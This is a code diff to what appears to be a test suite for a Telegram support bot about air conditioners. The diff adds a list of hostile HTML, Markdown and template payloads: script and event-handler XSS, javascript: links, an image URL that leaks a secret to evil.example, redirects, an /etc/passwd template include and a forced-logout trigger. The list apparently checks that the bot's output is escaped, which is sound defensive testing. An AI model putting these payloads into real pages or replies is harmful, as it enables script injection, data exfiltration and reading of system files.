@@ -26,6 +26,40 @@ HOSTILE = (
     "<script>document.title='broken'</script><img src=x onerror=\"document.title='broken'\">"
     "![x](http://evil.example/pixel.png) {{7*7}} \u202eevil\u202c\x07 \u200b'\"><svg onload=alert(1)>"
 )
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "![x](http://evil.example/pixel.png?d=secret)",
+    "<http://evil.example>",
+    "<img src=http://evil.example/p.gif>",
+    "<style>*{background:url(http://evil.example)}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><button>Sign in</button></form>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<math><mtext><img src=x onerror=alert(1)></math>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<div style='position:fixed;inset:0'>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "<div hx-get=/staff/logout hx-trigger=load>",
+    "{{7*7}}${7*7}<%=7*7%>",
+    "{% include '/etc/passwd' %}",
+    "\"'><b onmouseover=alert(1)>",
+    "&#60;script&#62;alert(1)",
+)
+"""HTML, Markdown and template syntax that does something where it is not escaped."""
 CHAT, BLOCKED, WAITING, EVIL = (Chat("telegram", number) for number in ("101", "102", "103", "104"))
 
 ANSWERS = {
@@ -38,6 +72,7 @@ ANSWERS = {
     "红灯": "照片1上红灯常亮：滤网堵塞或者过热。请先断电，清洗滤网后再试。",
     # What the photo of the plate does not show: nobody may believe it.
     "which its serial number": '{"brand": "Midea", "model": "KFR-35GW", "serial": "8K2207M1194"}',
+    "say it again": "\n".join(PAYLOADS),
     "rating plate": "Thank you, the plate says KFR-35GW. Please hold POWER for 5 s.",
 }
 
